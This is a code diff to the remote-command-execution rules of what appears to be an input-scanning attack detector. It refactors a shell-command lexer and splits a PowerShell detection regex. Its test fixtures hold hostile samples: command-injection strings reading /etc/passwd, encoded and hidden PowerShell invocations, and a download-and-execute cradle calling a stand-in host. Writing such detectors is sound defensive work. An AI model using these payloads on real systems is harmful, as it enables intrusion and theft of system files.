@@ -1,8 +1,10 @@
 import { CHAR } from '../features.ts'
-import { findShellCommand } from '../lex/shell-command.ts'
+import { ShellCommandLexer } from '../lex/shell-command.ts'
 import type { Reading } from '../reading.ts'
 import { pattern, type Rule, type Span } from '../rule.ts'
 import { WORD } from '../words.ts'
+
+const shell = new ShellCommandLexer()
 
 const SEPARATORS =
   CHAR.semicolon | CHAR.pipe | CHAR.ampersand | CHAR.backtick | CHAR.newline | CHAR.dollar | CHAR.backslash
@@ -32,7 +34,7 @@ export const rceRules: readonly Rule[] = [
     quotable: true,
     chars: SEPARATORS,
     words: 0,
-    find: findShellCommand,
+    find: reading => shell.find(reading),
     attacks: [
       '; cat /etc/passwd',
       '127.0.0.1 && ls /etc',
@@ -80,7 +82,7 @@ export const rceRules: readonly Rule[] = [
     quotable: true,
     chars: 0,
     words: WORD.shell,
-    find: reading => ((reading.chars & SEPARATORS) === 0 ? findShellCommand(reading) : undefined),
+    find: reading => ((reading.chars & SEPARATORS) === 0 ? shell.find(reading) : undefined),
     attacks: ['time ifconfig', 'strace ifconfig', '/bin/cat /etc/passwd', '/usr/[a-z]in/bash'],
     benign: [
       'cat food',
@@ -208,17 +210,35 @@ export const rceRules: readonly Rule[] = [
   ),
   pattern(
     'rce/powershell',
-    /\b(?:invoke-(?:webrequest|expression|command|restmethod|item|shellcode|mimikatz)|new-object\s{1,4}(?:system\.|net\.)|downloadstring\s{0,4}\(|start-(?:process|bitstransfer)|set-executionpolicy|powershell(?:\.exe)?\s{1,4}-\w|get-(?:wmiobject|ciminstance)\s{1,4}[-\w]|get-(?:childitem|process|content)\s{1,4}[-\w][^\n]{0,80}\|)|frombase64string\s{0,4}\(|\[system\.net\.|\bcmd(?:\.exe)?\s{1,4}\/[ck]\b|%(?:comspec|systemroot|windir|username)%|[&|]\s{0,4}echo\s{1,4}%\w{2,24}%|\breg(?:\.exe)?\s{1,4}(?:query|add|save|export|delete)\s{1,4}hk/,
+    /\b(?:invoke-(?:expression|command|shellcode|mimikatz)|new-object\s{1,4}(?:system\.|net\.)|downloadstring\s{0,4}\(|start-bitstransfer|(?:powershell|pwsh)(?:\.exe)?\s(?:[^\n]{0,80}\s)?-(?:e|en|enc|enco\w{0,10}|ec|w|win\w{0,8}|nop|nopr\w{0,6}|noni\w{0,12}|ep|ex|exec\w{0,12})\b)|frombase64string\s{0,4}\(|\[system\.net\.|[&|]\s{0,4}echo\s{1,4}%\w{2,24}%|[&|;]\s{0,4}(?:powershell|pwsh|cmd)(?:\.exe)?\s{1,4}[-/]\w/,
     {
       score: 5,
       quotable: true,
       words: WORD.powershell,
       attacks: [
         '& echo %PATH%',
+        'powershell -enc AAAA',
+        'powershell.exe -nop -w hidden -c x',
+        "IEX(New-Object Net.WebClient).DownloadString('http://x')",
+        'x|powershell -c id',
+      ],
+      benign: ['start processing', 'powershell is nice', 'powershell -File build.ps1'],
+    },
+  ),
+  // What people quote of their own machines too, and breaks out of nothing.
+  pattern(
+    'rce/powershell-command',
+    /\b(?:invoke-(?:webrequest|restmethod|item)|start-process|set-executionpolicy|powershell(?:\.exe)?\s{1,4}-\w|get-(?:wmiobject|ciminstance)\s{1,4}[-\w]|get-(?:childitem|process|content)\s{1,4}[-\w][^\n]{0,80}\|)|\bcmd(?:\.exe)?\s{1,4}\/[ck]\b|%(?:comspec|systemroot|windir|username)%|\breg(?:\.exe)?\s{1,4}(?:query|add|save|export|delete)\s{1,4}hk/,
+    {
+      score: 5,
+      bare: true,
+      quotable: true,
+      words: WORD.powershell,
+      attacks: [
         'reg query HKLM',
         'Invoke-WebRequest http://x/f.ps1',
         'cmd.exe /c dir',
-        'powershell -enc AAAA',
+        'powershell -Command whoami',
       ],
       benign: ['start processing', 'powershell is nice', 'invoke a function'],
     },
